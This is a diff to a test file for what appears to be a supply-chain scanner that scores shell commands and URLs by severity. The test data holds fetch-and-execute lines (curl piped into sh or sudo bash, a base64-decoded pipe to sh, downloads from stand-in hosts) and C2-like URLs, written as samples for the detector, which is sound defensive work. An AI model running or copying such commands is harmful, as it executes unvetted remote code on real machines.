@@ -48,6 +48,43 @@ describe('command analyser', () => {
     });
   }
 
+  // Vendors' documented installers (signatures/patterns/installers.json): low, whatever form the vendor documents.
+  const installers = [
+    'curl -LsSf https://astral.sh/uv/install.sh | sh',
+    'curl -fsSL https://get.pnpm.io/install.sh | sh -',
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+    'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
+    'curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh',
+    'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
+    'bash <(curl -s https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh)',
+    'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
+    'curl -fsSL https://bun.sh/install | bash -s "bun-v1.2.0"',
+  ];
+  for (const cmd of installers) {
+    it(`vendor installer (low): ${cmd.slice(0, 70)}`, () => {
+      const a = analyseCommand(cmd, sigs);
+      assert.ok(a.traits.some((t) => t.kind === 'vendor-installer'), a.traits.map((t) => `${t.kind}:${t.severity}`).join(' '));
+      assert.equal(a.severity, 'low', a.traits.map((t) => `${t.kind}:${t.severity}`).join(' '));
+    });
+  }
+  // The same shapes from anywhere else, over http, decoded, or next to another download stay critical.
+  const notInstallers = [
+    'curl -fsSL http://get.pnpm.io/install.sh | sh -',
+    'curl -LsSf https://198.51.100.23/uv/install.sh | sh',
+    'curl -LsSf https://astral.sh.example.invalid/uv/install.sh | sh',
+    'curl -LsSf https://astral.sh:8443/uv/install.sh | sh',
+    'curl -LsSf https://astral.sh/uv/other.sh | sh',
+    `echo ${Buffer.from('curl -LsSf https://astral.sh/uv/install.sh | sh').toString('base64')} | base64 -d | sh`,
+    'curl https://astral.sh/uv/install.sh | sh && curl https://x.invalid/a.sh | bash',
+    'curl -fsSL https://x.invalid/a | sudo -E bash -',
+    'curl -fsSL https://x.invalid/a | bash -s -- --version 1',
+  ];
+  for (const cmd of notInstallers) {
+    it(`not a vendor installer (critical): ${cmd.slice(0, 70)}`, () => {
+      assert.equal(analyseCommand(cmd, sigs).severity, 'critical');
+    });
+  }
+
   const benign = ['husky', 'husky install', 'is-ci || husky install', 'prisma generate', 'node-gyp rebuild', 'node-gyp-build', 'prebuild-install || node-gyp rebuild', 'patch-package', 'npx lint-staged', 'tsc', 'npm run build', 'node install.js', 'nuxt prepare', 'echo done'];
   for (const cmd of benign) {
     it(`benign: ${cmd}`, () => {
@@ -90,7 +127,15 @@ describe('URL classification', () => {
     ['https://x.invalid/api/ipcheck-encrypted/602076', 'critical'],
     ['https://api.npoint.io/f128c1c1135e7bb1779d', 'critical'],
     ['https://api.npoint.io/0000aaaa', 'medium'],
-    ['http://203.0.113.8/x', 'high'],
+    ['http://59.154.201.255/', 'high'],
+    // RFC 5737 documentation addresses: an example unless a C2 convention says otherwise (lines above and below).
+    ['http://203.0.113.8/x', 'low'],
+    ['http://192.0.2.1/some/test', 'low'],
+    // Not a host at all: octets over 255, broadcast, multicast, reserved.
+    ['https://256.0.0.1/', undefined],
+    ['http://255.255.255.255/', undefined],
+    ['http://224.0.0.251:1224/pdown', undefined],
+    ['http://240.1.2.3/', undefined],
     ['http://localhost:1224/pdown', undefined],
     ['http://127.0.0.1:1224/uploads', undefined],
     ['http://192.168.1.10:1224/x', undefined],
